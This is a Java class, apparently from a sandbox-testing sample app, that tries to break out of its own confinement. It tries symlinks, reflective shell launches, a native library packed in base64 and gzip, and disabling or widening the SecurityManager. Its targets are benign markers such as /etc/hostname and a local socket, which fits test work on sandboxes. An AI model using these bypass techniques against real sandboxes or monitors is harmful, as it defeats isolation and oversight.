package dev.oddity.samples.visitor;

import android.content.Context;
import android.util.Base64;
import java.io.BufferedReader;
import java.io.ByteArrayInputStream;
import java.io.File;
import java.io.FileDescriptor;
import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.FileReader;
import java.io.IOException;
import java.io.InputStream;
import java.lang.reflect.Field;
import java.lang.reflect.Method;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.channels.SocketChannel;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPInputStream;

/** What an app does that was made to break out: by links, by Java's inner doors, against the guard itself. */
final class Breaking {
    /** A file of every computer, and of no phone. */
    private static final String OUTSIDE = "/etc/hostname";

    /**
     * A library for x86-64, packed, whose {@code JNI_OnLoad} asks the kernel itself for {@code /var/tmp/oddity-visitor-was-here} to write and
     * for {@code /etc/hostname} to read. It names a version of JNI that there is only if it got the latter.
     */
    private static final String NATIVE = "H4sIAAAAAAACA6t39XFjYmRkgAFmBjsGBI+BwYEBEzgwWDCwQNkgtawMuMELRlSaQQChjw1ZXhCV3sCASsP0MZGojwNKBz4tSWFj"
            + "IB4IIPmPCUoTA0DqhIChU4KuwcvPM94/zyc/MYVhByi898/5//+/R6+pI1BuF4hw3NUAFOZnRZEVBUoYXnI1vMTP2nnI8EDrpQrW"
            + "HWxASw7rp5Yk62fkF5fkJeamMuiXJRbpl+QW6OenpGSWVOqWZRZnluQX6ZYnFutmpBalMsDjSwHqLlicZUD5sLCxgPK5oHweKM0N"
            + "pSUY6AMAWrP4sJgCAAA=";

    private final Context context;

    Breaking(Context context) {
        this.context = context;
    }

    /** One that returns has got what it should not. */
    private interface Attempt {
        void make() throws Throwable;
    }

    void addTo(Map<String, Wish> wishes) {
        wishes.put("Break out", this::all);
        wishes.put("Rights", this::rights);
        wishes.put("Print to nobody", this::print);
        wishes.put("Mark what others share", this::mark);
    }

    private String all() {
        Map<String, Attempt> attempts = new LinkedHashMap<>();
        attempts.put("root", () -> read("/proc/self/root" + OUTSIDE));
        attempts.put("link", () -> read(linkTo("/etc", "etc") + "/hostname"));
        attempts.put("write", () -> new FileOutputStream(linkTo("/var/tmp", "var") + "/oddity-visitor-was-here").close());
        attempts.put("unix", Breaking::connectToUnixSocket);
        attempts.put("exec", Breaking::startShell);
        attempts.put("open0", Breaking::openPastGuard);
        attempts.put("lists", Breaking::widenGuard);
        attempts.put("network", Breaking::letGuardConnect);
        attempts.put("native", this::loadNative);
        attempts.put("no guard", Breaking::removeGuard);
        attempts.put("native without guard", this::loadNative);
        attempts.put("write without guard", () -> new FileOutputStream("/var/tmp/oddity-visitor-was-here").close());
        attempts.put("unix without guard", Breaking::connectToUnixSocket);
        attempts.put("network without guard", Breaking::connect);
        StringBuilder got = new StringBuilder();
        attempts.forEach((name, attempt) -> {
            try {
                attempt.make();
                got.append(", ").append(name);
            } catch (Throwable kept) {
                System.err.println(name + ": " + kept);
            }
        });
        return attempts.size() + " ways, got " + (got.length() == 0 ? "nothing" : got.substring(2));
    }

    /** What the kernel says of this process. */
    private String rights() throws IOException {
        StringBuilder told = new StringBuilder();
        try (BufferedReader status = new BufferedReader(new FileReader("/proc/self/status"))) {
            for (String line = status.readLine(); line != null; line = status.readLine()) {
                if (line.startsWith("CapEff") || line.startsWith("CapBnd") || line.startsWith("NoNewPrivs") || line.startsWith("Seccomp:")) {
                    told.append(line.replaceAll("\\s+", " ")).append('\n');
                }
            }
        }
        return told.toString().trim();
    }

    /** On a phone this goes nowhere. */
    private String print() throws IOException {
        FileOutputStream out = new FileOutputStream(FileDescriptor.out);
        out.write("hello, is there anybody?".getBytes());
        out.flush();
        return "printed";
    }

    /** Adds a line to a file that came with the phone, and says how many are there. */
    private String mark() throws IOException {
        File[] unpacked = new File(System.getProperty("java.io.tmpdir")).listFiles((folder, name) -> name.contains("nativeruntime"));
        if (unpacked == null || unpacked.length == 0) {
            return "nothing is shared";
        }
        Path fonts = unpacked[0].toPath().resolve("fonts/fontsInSdk.txt");
        boolean marked = new String(Files.readAllBytes(fonts)).contains("written by an app");
        try (FileOutputStream out = new FileOutputStream(fonts.toFile(), true)) {
            out.write("# written by an app\n".getBytes());
        } catch (IOException refused) {
            return marked ? "marked by another, refused" : "refused";
        }
        return marked ? "marked by another" : "marked";
    }

    private String linkTo(String folder, String name) throws IOException {
        Path link = Paths.get(context.getFilesDir().getPath(), name);
        Files.deleteIfExists(link);
        return Files.createSymbolicLink(link, Paths.get(folder)).toString();
    }

    private static void read(String file) throws IOException {
        try (FileInputStream in = new FileInputStream(file)) {
            in.read();
        }
    }

    private static void connectToUnixSocket() throws Exception {
        Object address = Class.forName("java.net.UnixDomainSocketAddress").getMethod("of", String.class)
                .invoke(null, "/var/tmp/oddity-visitor.socket");
        Class.forName("java.nio.channels.SocketChannel").getMethod("open", Class.forName("java.net.SocketAddress"))
                .invoke(null, address);
    }

    private static void startShell() throws Exception {
        for (Method start : Class.forName("java.lang.ProcessImpl").getDeclaredMethods()) {
            if (start.getName().equals("start")) {
                start.setAccessible(true);
                start.invoke(null, new String[] {"/bin/sh", "-c", "id"}, null, null, null, false);
                return;
            }
        }
        throw new NoSuchMethodException("start");
    }

    private static void openPastGuard() throws Exception {
        FileInputStream in = new FileInputStream(new FileDescriptor());
        Method open = FileInputStream.class.getDeclaredMethod("open0", String.class);
        open.setAccessible(true);
        open.invoke(in, OUTSIDE);
        in.read();
    }

    private static Object guard() throws Exception {
        return System.class.getMethod("getSecurityManager").invoke(null);
    }

    @SuppressWarnings("unchecked")
    private static void widenGuard() throws Exception {
        Object guard = guard();
        for (String list : new String[] {"readable", "writable"}) {
            Field field = guard.getClass().getDeclaredField(list);
            field.setAccessible(true);
            ((List<Path>) field.get(guard)).add(Paths.get("/"));
        }
        read(OUTSIDE);
    }

    private static void letGuardConnect() throws Exception {
        Object guard = guard();
        Field may = guard.getClass().getDeclaredField("mayConnect");
        may.setAccessible(true);
        may.setBoolean(guard, true);
        connect();
    }

    /** By a channel: behind a socket there may be nothing of the computer's. */
    private static void connect() throws IOException {
        SocketChannel.open(new InetSocketAddress(InetAddress.getByAddress(new byte[] {127, 0, 0, 1}), 47113)).close();
    }

    /** Writes a library into the app's own storage and loads it, past what looks at calls of {@code System.load}. */
    private void loadNative() throws Exception {
        File library = File.createTempFile("native", ".so", context.getFilesDir());
        try (InputStream packed = new GZIPInputStream(new ByteArrayInputStream(Base64.decode(NATIVE, Base64.DEFAULT)));
                FileOutputStream out = new FileOutputStream(library)) {
            for (int read = packed.read(); read >= 0; read = packed.read()) {
                out.write(read);
            }
        }
        Runtime.class.getMethod("load", String.class).invoke(Runtime.getRuntime(), library.getPath());
    }

    private static void removeGuard() throws Exception {
        Method hidden = Class.class.getDeclaredMethod("getDeclaredFields0", boolean.class);
        hidden.setAccessible(true);
        for (Field field : (Field[]) hidden.invoke(System.class, false)) {
            if (field.getName().equals("security")) {
                field.setAccessible(true);
                field.set(null, null);
            }
        }
        read(OUTSIDE);
    }
}
